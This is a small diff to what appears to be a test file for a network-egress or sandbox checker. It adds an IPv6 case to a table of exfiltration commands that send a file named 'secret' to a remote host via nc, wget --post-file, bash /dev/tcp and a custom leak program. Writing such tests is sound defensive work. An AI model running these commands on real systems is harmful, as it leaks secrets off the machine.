@@ -9,6 +9,7 @@ from oracle import assert_allowed, assert_blocked, assert_innocent, assert_scrub
 PROGRAMS = {
     "nc": "nc remote 9 < secret",
     "wget": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
+    "ipv6": "nc remote6 9 < secret",
     "bash": "x=$(cat secret); echo ${x//$'\\n'/ } > /dev/tcp/remote/9",
     "program": "leak read send secret",
 }
